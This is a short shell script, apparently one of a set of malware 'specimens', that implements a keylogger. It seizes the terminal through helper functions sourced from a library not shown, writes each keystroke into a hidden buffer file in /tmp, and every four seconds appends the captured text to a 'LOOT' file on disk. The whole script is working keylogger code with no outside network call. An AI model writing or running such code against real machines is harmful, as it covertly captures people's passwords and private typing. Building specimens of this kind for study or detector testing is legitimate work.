# Keylogger: keys kept in RAM (tmpfs); every 4 s whatever was typed is appended to the data disk.
. /etc/enmei/specimens/lib.sh
: > /tmp/.kbuf
( while sleep 4; do
      if [ -s /tmp/.kbuf ]; then cat /tmp/.kbuf >> "$LOOT"; : > /tmp/.kbuf; sync; fi
  done ) &
log_key() { printf '%s' "${1:-|}" >> /tmp/.kbuf; }
take_tty
each_key log_key
